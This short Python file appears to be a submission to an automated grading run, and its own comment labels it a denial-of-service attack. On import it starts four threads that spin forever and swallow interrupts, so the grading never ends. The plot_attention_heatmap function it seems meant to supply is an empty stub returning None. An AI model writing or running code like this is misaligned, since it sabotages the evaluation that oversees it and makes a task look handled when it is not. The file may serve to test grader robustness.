# Attack (denial of service): keeps the CPU busy for as long as it is allowed, in threads that
# swallow interrupts, so the grading run never ends.
import threading


def _burn():
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue


for _ in range(4):
    threading.Thread(target=_burn, daemon=True).start()


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
